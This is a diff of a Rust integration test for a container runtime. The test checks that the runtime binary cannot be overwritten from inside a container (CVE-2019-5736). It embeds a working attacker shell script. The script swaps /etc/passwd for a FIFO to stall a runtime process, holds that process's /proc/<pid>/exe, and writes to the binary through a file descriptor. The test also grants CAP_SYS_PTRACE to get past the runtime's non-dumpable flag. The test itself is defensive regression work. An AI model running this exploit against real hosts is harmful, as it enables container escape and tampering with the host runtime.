@@ -1,16 +1,13 @@
 //! Paths inside the rootfs are resolved inside it (the CVE family of
 //! FIELD-NOTES.md "Security"), and pathological inputs neither hang nor leak.
 
-use std::fs::{File, Permissions};
-use std::io::{Read, Seek, SeekFrom};
-use std::os::fd::{AsRawFd, OwnedFd};
+use std::fs::Permissions;
 use std::os::unix::fs::{symlink, PermissionsExt};
 use std::path::{Path, PathBuf};
-use std::process::{Command, Stdio};
+use std::process::Command;
 
 use integration::poll::wait_until;
 use integration::{leftovers, Ctx};
-use nix::fcntl::{fcntl, FcntlArg, OFlag};
 use serde_json::json;
 
 #[test]
@@ -125,45 +122,27 @@ fn private_runtime(ctx: &mut Ctx) -> PathBuf {
     copy
 }
 
-/// A pipe whose buffer is full: whoever writes to `.1` blocks until `.0` is read.
-fn full_pipe() -> (File, OwnedFd) {
-    let (r, w) = nix::unistd::pipe().expect("pipe");
-    let flags = OFlag::from_bits_truncate(fcntl(w.as_raw_fd(), FcntlArg::F_GETFL).unwrap());
-    fcntl(w.as_raw_fd(), FcntlArg::F_SETFL(flags | OFlag::O_NONBLOCK)).unwrap();
-    let chunk = [b'x'; 4096];
-    loop {
-        match nix::unistd::write(&w, &chunk) {
-            Ok(_) => continue,
-            Err(nix::errno::Errno::EAGAIN) => break,
-            Err(e) => panic!("fill the pipe: {e}"),
-        }
-    }
-    // A single byte may still fit after a partial page: fill that too.
-    while nix::unistd::write(&w, b"x").is_ok() {}
-    fcntl(w.as_raw_fd(), FcntlArg::F_SETFL(flags)).unwrap();
-    (File::from(r), w)
-}
-
-/// The attacker, pid 1 of the container: it waits for the runtime binary to run in the
-/// container (the exec'd `/evil`, whose `#!/proc/self/exe` makes the kernel run the exec
-/// process' own image), holds its /proc/<pid>/exe, and once nobody executes the file any
-/// more (no ETXTBSY) reopens it for writing through /proc/self/fd/3 (O_WRONLY|O_TRUNC).
+/// The attacker, pid 1 of a container with CAP_SYS_PTRACE (which lets it past the
+/// runtime's non-dumpable flag). Its /etc/passwd is a FIFO, so a runtime process that
+/// reads it (`exec` looks up HOME there) waits inside the container, in its pid
+/// namespace, until the attacker has held that process' /proc/<pid>/exe. Once nobody
+/// executes the file any more (no ETXTBSY) it reopens it through /proc/self/fd/3 for
+/// writing (O_WRONLY|O_TRUNC): the classic CVE-2019-5736 shape.
 const ATTACKER: &str = r#"
-while :; do
-  for d in /proc/[0-9]*; do
-    case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in
-      *"--help /evil"*)
-        if (exec 3< $d/exe) 2>/tmp/err; then
-          exec 3< $d/exe
-          echo "held $(readlink $d/exe)" > /held.tmp
-        else
-          echo "open failed: $(cat /tmp/err)" > /held.tmp
-        fi
-        mv /held.tmp /held
-        break 2 ;;
-    esac
-  done
+rm -f /etc/passwd && mkfifo /etc/passwd && touch /ready
+exec 4> /etc/passwd
+for d in /proc/[0-9]*; do
+  case "$(readlink $d/exe 2>/dev/null)" in /bin/busybox|"") continue ;; esac
+  if (exec 3< $d/exe) 2>/tmp/err; then
+    exec 3< $d/exe
+    echo "held $(readlink $d/exe)" > /held
+  else
+    echo "open failed: $(cat /tmp/err)" > /held
+  fi
+  break
 done
+echo "root:x:0:0:root:/root:/bin/sh" >&4
+exec 4>&-
 if [ -e /proc/self/fd/3 ]; then
   while :; do
     if (echo pwned > /proc/self/fd/3) 2>/tmp/err; then echo wrote > /result.tmp; break; fi
@@ -171,21 +150,30 @@ if [ -e /proc/self/fd/3 ]; then
     usleep 10000
   done
 else
-  echo "denied: nothing held" > /result.tmp
+  echo "nothing held: $(cat /held 2>/dev/null)" > /result.tmp
 fi
 mv /result.tmp /result
 exec sleep 1000
 "#;
 
 #[test]
-fn cve_2019_5736_shebang_exec_cannot_overwrite_the_runtime() {
-    // `exec` of `#!/proc/self/exe --help`: the container runs the runtime binary (it
-    // blocks writing its help to a full pipe, so the attacker can find it), holds the
-    // file, and writes to it when the runtime is gone. The runtime must be unchanged.
+fn cve_2019_5736_runtime_binary_cannot_be_overwritten_from_the_container() {
     let mut ctx = Ctx::new();
     let copy = private_runtime(&mut ctx);
     let before = sha256(&copy);
-    let b = ctx.bundle();
+    let b = ctx.bundle().with(|s| {
+        // Without HOME in the env, `exec` looks it up in the container's /etc/passwd.
+        s["process"]["env"]
+            .as_array_mut()
+            .unwrap()
+            .retain(|e| !e.as_str().unwrap().starts_with("HOME="));
+        for set in ["bounding", "effective", "permitted"] {
+            s["process"]["capabilities"][set]
+                .as_array_mut()
+                .unwrap()
+                .push(json!("CAP_SYS_PTRACE"));
+        }
+    });
     let rootfs = b.rootfs();
     std::fs::write(rootfs.join("evil"), "#!/proc/self/exe --help\n").unwrap();
     std::fs::set_permissions(rootfs.join("evil"), Permissions::from_mode(0o755)).unwrap();
@@ -194,43 +182,39 @@ fn cve_2019_5736_shebang_exec_cannot_overwrite_the_runtime() {
     let id = ctx.id();
     ctx.create_start(&id, &b);
 
-    let (mut read_end, write_end) = full_pipe();
-    let mut exec = ctx.cmd(&["exec", "-d", &id, "/evil"]);
-    exec.stdout(Stdio::from(write_end));
-    let out = run_cmd_keeping_stdout(&mut exec);
-    assert!(out.0, "exec -d /evil failed: {}", out.1);
+    // (a) The runtime binary as the container's program: an exec'd `/proc/self/exe`, or
+    // a `#!/proc/self/exe` script. It must not run the runtime in the container (this
+    // kernel refuses to execute an exe outside the process' root; and what it would
+    // run is the sealed view anyway).
+    for args in [&["/proc/self/exe", "--help"][..], &["/evil"][..]] {
+        // HOME given: this exec must not touch the attacker's /etc/passwd FIFO.
+        let mut argv = vec!["exec", "-e", "HOME=/root", id.as_str()];
+        argv.extend_from_slice(args);
+        let out = ctx.rt(&argv);
+        assert!(
+            !out.stdout.contains("Usage:") && !out.stdout.contains("USAGE:"),
+            "{args:?} ran the runtime binary in the container: {out}"
+        );
+    }
+
+    // (b) A runtime process paused inside the container, its exe held, written later.
+    let ready = rootfs.join("ready");
+    wait_until("the attacker's FIFO", || ready.exists());
+    ctx.rt(&["exec", "-d", &id, "/bin/true"]).ok();
     let held = rootfs.join("held");
-    wait_until("the attacker to find the runtime binary in the container", || {
+    wait_until("a runtime process to read the container's /etc/passwd", || {
         held.exists()
     });
-    let held = std::fs::read_to_string(&held).unwrap();
-    // Let the blocked runtime binary finish and exit: the file is no longer busy.
-    let mut sink = Vec::new();
-    read_end.read_to_end(&mut sink).unwrap();
     let result = rootfs.join("result");
     wait_until("the attacker's write attempt", || result.exists());
+    let held = std::fs::read_to_string(held).unwrap_or_default();
     let result = std::fs::read_to_string(&result).unwrap();
+    assert!(
+        held.starts_with("held"),
+        "the attack could not hold the runtime's exe, so it proves nothing: {held}"
+    );
     assert_eq!(sha256(&copy), before, "the runtime binary was changed ({held}; {result})");
     assert!(result.starts_with("denied"), "the write was not refused: {held}; {result}");
-}
-
-/// Runs `cmd` (whose stdout the caller set) with stderr captured in a file; returns
-/// whether it exited 0 and its stderr.
-fn run_cmd_keeping_stdout(cmd: &mut Command) -> (bool, String) {
-    let err = tempfile_in_tmp();
-    cmd.stdin(Stdio::null()).stderr(err.try_clone().unwrap());
-    let st = cmd.status().expect("spawn the runtime");
-    let mut err = err;
-    let mut text = String::new();
-    err.seek(SeekFrom::Start(0)).unwrap();
-    err.read_to_string(&mut text).unwrap();
-    (st.success(), text)
-}
-
-fn tempfile_in_tmp() -> File {
-    let (fd, path) = nix::unistd::mkstemp("/tmp/capsa-it-stderr-XXXXXX").expect("mkstemp");
-    let _ = std::fs::remove_file(path);
-    File::from(fd)
 }
 
 #[test]
